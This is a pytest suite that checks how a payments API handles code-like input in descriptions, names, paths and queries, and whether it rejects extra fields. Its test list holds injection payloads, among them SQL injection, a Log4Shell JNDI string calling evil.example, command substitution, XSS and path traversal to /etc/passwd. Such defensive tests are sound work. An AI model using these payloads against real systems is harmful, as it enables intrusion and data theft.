"""What looks like code in some language is text: it comes back as it was sent, or is refused."""

import uuid
from typing import Any
from urllib.parse import quote

import httpx
import pytest

CODE = [
    "'; DROP TABLE customers.customers; --",
    '" OR 1=1 /* ',
    "${jndi:ldap://evil.example/a} {{7*7}} #{7*7} <%= 7*7 %>",
    "%s %n %x {0} {self.__class__} $(id) `id` | id",
    "<img src=x onerror=alert(1)><!-- ]]> &lt;",
    "%27%20OR%201%3D1 %2527 \\u0027 \\x27",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
]


async def open_funded(api: Any, post: Any) -> str:
    body = {"name": "甲", "mobile": f"13{uuid.uuid4().int % 10**9:09d}", "account_class": 3}
    account: str = (await post("/v1/customers", body)).json()["account"]
    await api.fund(account, 100_000)
    return account


@pytest.fixture
async def accounts(api: Any, post: Any) -> tuple[str, str]:
    return await open_funded(api, post), await open_funded(api, post)


@pytest.mark.parametrize("text", CODE)
async def test_a_description_comes_back_as_it_was_sent(
    client: httpx.AsyncClient, post: Any, accounts: tuple[str, str], text: str
) -> None:
    payer, payee = accounts
    paid = await post(
        "/v1/payments",
        {
            "payer": payer,
            "payee": payee,
            "amount": {"amount": "1.00", "currency": "CNY"},
            "description": text,
        },
    )
    assert paid.status_code == 201, paid.text
    shown = await client.get(f"/v1/payments/{paid.json()['id']}")
    assert shown.json()["description"] == text
    assert shown.headers["content-type"] == "application/json"
    assert (await client.get("/v1/customers?limit=1")).status_code == 200


@pytest.mark.parametrize("text", CODE)
async def test_a_name_is_kept_as_it_is_or_refused_by_its_field(
    client: httpx.AsyncClient, post: Any, text: str
) -> None:
    body = {"name": text, "mobile": f"13{uuid.uuid4().int % 10**9:09d}", "account_class": 3}
    opened = await post("/v1/customers", body)
    assert opened.status_code in (201, 422)
    if opened.status_code == 422:
        assert opened.json()["field"] == "name"
    found = await client.get("/v1/customers", params={"mobile": body["mobile"]})
    assert len(found.json()["data"]) == (opened.status_code == 201)


@pytest.mark.parametrize("text", CODE)
async def test_code_in_paths_and_queries_finds_nothing(
    client: httpx.AsyncClient, text: str
) -> None:
    for path in ("/v1/customers/", "/v1/payments/", "/v1/merchants/", "/v1/accounts/"):
        answer = await client.get(path + quote(text, safe=""))
        assert answer.status_code in (404, 422), path
    for name in ("cursor", "limit", "mobile"):
        answer = await client.get("/v1/customers", params={name: text})
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid_field")
        assert text not in answer.text


async def test_what_was_encoded_twice_is_decoded_once(client: httpx.AsyncClient) -> None:
    """`%2532` is the text `%32`, and not the digit that that would be."""
    once = await client.get("/v1/customers?limit=%32")
    twice = await client.get("/v1/customers?limit=%2532")
    assert (once.status_code, twice.status_code) == (200, 422)


async def test_only_the_documented_members_are_taken(
    client: httpx.AsyncClient, post: Any, api: Any
) -> None:
    body = {"name": "甲", "mobile": f"13{uuid.uuid4().int % 10**9:09d}", "account_class": 3}
    before = await api.count()
    for name, value in (
        ("id", "cus_" + "0" * 32),
        ("state", "verified"),
        ("is_admin", True),
        ("level", 5),
        ("__proto__", {}),
    ):
        refused = await post("/v1/customers", {**body, name: value})
        assert (refused.status_code, refused.json()["field"]) == (422, name)
    for name, value in (("account_class", "3"), ("name", 7), ("mobile", 13_800_000_001)):
        refused = await post("/v1/customers", {**body, name: value})
        assert (refused.status_code, refused.json()["field"]) == (422, name)
    assert await api.count() == before
